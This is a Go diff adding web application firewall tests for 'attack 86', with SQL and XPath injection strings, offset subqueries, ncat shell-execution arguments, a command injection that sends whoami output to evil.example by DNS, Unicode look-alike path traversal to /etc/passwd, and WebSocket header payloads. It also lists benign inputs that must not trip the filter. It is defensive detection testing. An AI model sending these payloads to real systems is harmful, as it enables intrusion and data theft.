@@ -2,6 +2,7 @@ package waf
 
 import (
 	"net/http"
+	"net/url"
 	"testing"
 )
 
@@ -51,4 +52,78 @@ func FuzzGoOperators(f *testing.F) {
 			}
 		}
 	})
+}
+
+// TestAttack86 are attack 86's finds: a closing bracket between the quote
+// and a postfix (x') notnull --: a login on SQLite and PostgreSQL where
+// the query reads md5('...'); COLLATE on MariaDB), IS DISTINCT FROM and
+// MySQL 8's MEMBER OF (210106); XPath's quote reopened in a bracket
+// (210104, run with libxml2); a paging subquery after a number with no
+// condition (1 offset (select pin from users limit 1), 210202); ncat's
+// -c and --sh-exec (210204); and its false positive, AWS Signature
+// Version 4's signed headers (content-type;host;x-amz-date, 210151).
+func TestAttack86(t *testing.T) {
+	operatorTable(t, "210106", postfixAfterQuote,
+		[]string{"x') notnull --", "x')notnull--", "x') notnull; --", "x') notnull and ('1", "x') isnull or ('1", "x') notnull or lower('",
+			"x') collate nocase <> ('", "x') collate \"C\" is distinct from ('1", "admin') notnull --", "x') collate utf8mb4_general_ci = ('0",
+			"x') member of('[0]", "x' member of('[0]"},
+		nil,
+		[]string{"He is a 'founding' member of the club", "(see 'x') isnull returns true", "a 'member' of (the) team"})
+	operatorTable(t, "210104", xpathInjection,
+		[]string{"x') or .//password or ('", "contains(name,'x') or .//password or ('')", "x') or ./password or ('", "x') or ../user or ('",
+			"x') or //user or ('"},
+		nil,
+		[]string{"He said 'x') or ... or ('y')", "pick 'a') or (b) or ('c')"})
+	operatorTable(t, "210202", sortListProbe,
+		[]string{"1 offset (select pin from users limit 1)", "10 offset unicode((select password from users))-97",
+			"1 offset length((select password from users limit 1))", "1 offset -(select pin from users limit 1)"},
+		nil,
+		[]string{"Buy 2 first (select one from the list)", "Pick the first (select one from users)", "top 10 (select your favourites)"})
+	operatorTable(t, "210204", argumentOptions,
+		[]string{"4444 -c sh", "4444 -csh", "4444 -c bash", "host.example --sh-exec=id"},
+		[]string{"4444 --sh-exec=sh", "4444 -c /bin/sh"},
+		[]string{"ping -c 3 host", "curl -c cookies.txt https://x", "bash -c \"python x.py\"", "git -c user.name=x commit"})
+	tableOnly(t)
+	h := func(name, k, v string) probe {
+		return probe{name: name, method: "GET", path: "/x", header: http.Header{k: {v}}}
+	}
+	sig := func(signed string) string {
+		return "AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20240101/us-east-1/s3/aws4_request, SignedHeaders=" + signed +
+			", Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024"
+	}
+	runBeyondTheCRS(t,
+		[]probe{{name: "host lookup of a command's output", method: "GET", path: "/ping?host=" + url.QueryEscape("127.0.0.1;host $(whoami).evil.example")}},
+		[]probe{{name: "form login md5 notnull", method: "POST", path: "/login", contentType: "application/x-www-form-urlencoded", body: "user=admin&password=" + url.QueryEscape("x') notnull --")}},
+		[]probe{h("SigV4 content-type;host", "Authorization", sig("content-type;host;x-amz-content-sha256;x-amz-date")),
+			h("SigV4 SDK", "Authorization", sig("amz-sdk-invocation-id;amz-sdk-request;host;x-amz-date")),
+			{name: "SigV4 presigned PUT", method: "PUT", path: "/bucket/key?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-SignedHeaders=content-type%3Bhost&X-Amz-Signature=abc"}})
+}
+
+// TestAttack86Places: attack 86's places: the dot look-alikes in a path
+// segment or a header (‥/‥/‥/etc/passwd: a backend that NFKC-normalises
+// reads ../../../etc/passwd), and Sec-WebSocket-Protocol, where
+// applications carry a session token, read when it holds more than
+// subprotocols' names.
+func TestAttack86Places(t *testing.T) {
+	tableOnly(t)
+	h := func(name, k, v string) probe {
+		return probe{name: name, method: "GET", path: "/x", header: http.Header{k: {v}}}
+	}
+	runBeyondTheCRS(t, []probe{h("header full-width", "X-File", "．．/．．/etc/passwd")},
+		[]probe{{name: "two dot leader", method: "GET", path: "/files/%E2%80%A5/%E2%80%A5/%E2%80%A5/etc/passwd"},
+			{name: "one dot leaders", method: "GET", path: "/files/%E2%80%A4%E2%80%A4/%E2%80%A4%E2%80%A4/etc/passwd"},
+			{name: "full-width full stops", method: "GET", path: "/files/%EF%BC%8E%EF%BC%8E/%EF%BC%8E%EF%BC%8E/etc/passwd"},
+			{name: "small full stops", method: "GET", path: "/files/%EF%B9%92%EF%B9%92/%EF%B9%92%EF%B9%92/etc/passwd"},
+			h("header two dot leader", "X-File", "‥/‥/‥/etc/passwd"),
+			h("subprotocol SQL", "Sec-WebSocket-Protocol", "chat, x' union select password from users--"),
+			h("subprotocol time", "Sec-WebSocket-Protocol", "access_token.x'||pg_sleep(5)||'"),
+			h("subprotocol shell", "Sec-WebSocket-Protocol", "$(id)"),
+			h("subprotocol metadata", "Sec-WebSocket-Protocol", "169.254.169.254/latest/meta-data/")},
+		[]probe{{name: "an ellipsis in a slug", method: "GET", path: "/blog/wait%E2%80%A6what"},
+			{name: "full-width decimal", method: "GET", path: "/price/%EF%BC%91%EF%BC%8E%EF%BC%95"},
+			h("full-width decimal in a header", "X-Title", "価格は１．５倍"),
+			h("graphql-ws", "Sec-WebSocket-Protocol", "graphql-transport-ws"),
+			h("stomp", "Sec-WebSocket-Protocol", "v12.stomp, v11.stomp, v10.stomp"),
+			h("kubernetes bearer", "Sec-WebSocket-Protocol", "base64url.bearer.authorization.k8s.io.ZXlKaGJHY2lPaUpTVXpJMU5pSXNJbXRwWkNJNklpSjkuZXlKcGMzTWlPaUpyZFdKbGNtNWxkR1Z6TDNObGNuWnBZMlZoWTJOdmRXNTBJbjA, base64.binary.k8s.io"),
+			h("a JWT as a subprotocol", "Sec-WebSocket-Protocol", "Authorization, eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk")})
 }
